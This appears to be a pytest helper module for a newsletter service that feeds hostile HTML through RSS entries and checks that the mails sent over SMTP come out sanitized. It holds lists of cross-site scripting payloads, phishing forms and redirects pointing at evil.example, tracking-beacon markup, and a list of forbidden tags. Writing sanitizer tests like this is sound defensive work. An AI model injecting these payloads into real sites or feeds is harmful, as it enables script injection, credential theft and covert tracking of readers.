"""A feed that means harm, walked through the whole service: read, matched, and mailed over SMTP to people who follow it."""

from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta
from html.parser import HTMLParser
from itertools import count, product
from typing import Any
from urllib.parse import urlsplit
from xml.sax.saxutils import escape

from pytest_httpserver import HTTPServer

from newsletter.worker import run_once
from tests.fakes.smtp import Mail, SmtpCatcher
from tests.journey import road

#: Nothing of ours is here: whatever leads to it came out of the feed.
EVIL = "evil.example"
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://ok.example/' onmouseover='alert(1)'>x</a>",
    "<a href='https://ok.example/\" onclick=\"alert(1)'>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
)
_PHISHING = (
    f"<form action='https://{EVIL}/login'><input name=password><button formaction='//{EVIL}/'>go</button></form>",
    f"<base href='//{EVIL}/'><a href='login'>Your account</a>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    "<div style='position:fixed;inset:0'>Your account</div>",
    f"<style>body{{display:none}}</style><link rel=stylesheet href='//{EVIL}/x.css'>",
    f"<a href='https://bank.example@{EVIL}/'>bank.example</a>",
    "<a href='login.html'>Sign in</a>",
    "<a href='https:\\\\\\x'>Sign in</a>",
)
_BEACONS = (
    f"<img src='https://{EVIL}/1.gif' width=1 height=1>",
    f"<img srcset='//{EVIL}/1.gif 1x'><picture><source srcset='//{EVIL}/2.gif'></picture>",
    f"<p style='background:url(//{EVIL}/3.gif)'>x</p>",
    f"<style>@import '//{EVIL}/4.css'; p {{ background: url(//{EVIL}/5.gif) }}</style>",
    f"<table background='//{EVIL}/6.gif'><tr><td background='//{EVIL}/7.gif'>x</table>",
    f"<video poster='//{EVIL}/8.gif' src='//{EVIL}/9.mp4'></video><audio src='//{EVIL}/10.mp3'></audio>",
    f"<object data='//{EVIL}/11'></object><embed src='//{EVIL}/12'><iframe src='//{EVIL}/13'></iframe>",
    f"<svg><image href='//{EVIL}/14.svg'/><use href='//{EVIL}/15.svg#x'/></svg>",
    f"<input type=image src='//{EVIL}/16.gif'><link rel=preload href='//{EVIL}/17'>",
)
#: What each is put into: bare, in what breaks out of an element or attribute, escaped once, within other markup.
_AROUND = ("{}", "</p></td></title></a>{}", "\"'>{}", "<blockquote><pre>{}", "<b>x</b>{}<i>y")
#: Hostile markup, in all the ways.
MARKUP = [around.format(one) for one, around in product((*_SCRIPTS, *_PHISHING, *_BEACONS), _AROUND)]
#: What may stand in a mail or on a page because of a feed.
FORBIDDEN = {
    *(
        "script",
        "style",
        "img",
        "image",
        "picture",
        "source",
        "svg",
        "math",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
    ),
    *(
        "button",
        "select",
        "textarea",
        "video",
        "audio",
        "link",
        "meta",
        "base",
        "template",
        "noscript",
        "details",
        "applet",
    ),
}
_numbers = count(1)


def post(title: str, html: str, *, link: str = "https://ok.example/post", author: str = "Somebody") -> str:
    """An entry of a feed; the words `Uyghur` in its text bring it to everybody who follows the topic."""
    body = f"<p>About Uyghur towns.</p>{html}<p>And more of it.</p>"
    return (
        f"<item><title>{escape(_storable(title))}</title><guid>{next(_numbers)}</guid><link>{escape(_storable(link))}</link>"
        f"<author>{escape(_storable(author))}</author><description>{escape(_storable(body))}</description></item>"
    )


def feed(*posts: str, title: str = "A digest") -> str:
    """A feed of these entries."""
    return f"<rss version='2.0'><channel><title>{escape(_storable(title))}</title>{''.join(posts)}</channel></rss>"


@contextmanager
def mailed(settings: Any, server: HTTPServer, text: str, *people: str, **changes: Any) -> Iterator[list[Mail]]:
    """The mails that a feed with this text leads to, one to each of `people` (one of them if none are named)."""
    site = urlsplit(server.url_for("/"))
    allow = frozenset({(site.hostname, site.port)})
    with SmtpCatcher() as smtp, road.configured(settings, mail=smtp.url, feed_allow=allow, **changes):
        road.set_up(road.serve(server, text))
        for address in people or ("reader@example.org",):
            road.subscribe(address, "Uyghur", discreet=False)
        run_once.once(wait=timedelta(0))
        assert smtp.messages, "nothing was mailed"
        assert set(smtp.commands) <= {"EHLO", "MAIL", "RCPT", "DATA", "RSET", "NOOP", "QUIT"}
        yield smtp.messages


class Elements(HTMLParser):
    """Every element of a page, with its attributes, as a browser without scripts reads it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    @property
    def names(self) -> set[str]:
        """Which elements there are."""
        return {tag for tag, _ in self.found}

    @property
    def attributes(self) -> set[str]:
        """Which attributes there are."""
        return {name for _, attributes in self.found for name in attributes}

    @property
    def links(self) -> list[str]:
        """Where its links lead."""
        return [attributes["href"] for tag, attributes in self.found if tag == "a" and "href" in attributes]


def _storable(text: str) -> str:
    """`text` without what XML itself forbids."""
    return "".join(char for char in text if char in "\t\n" or char >= " ")
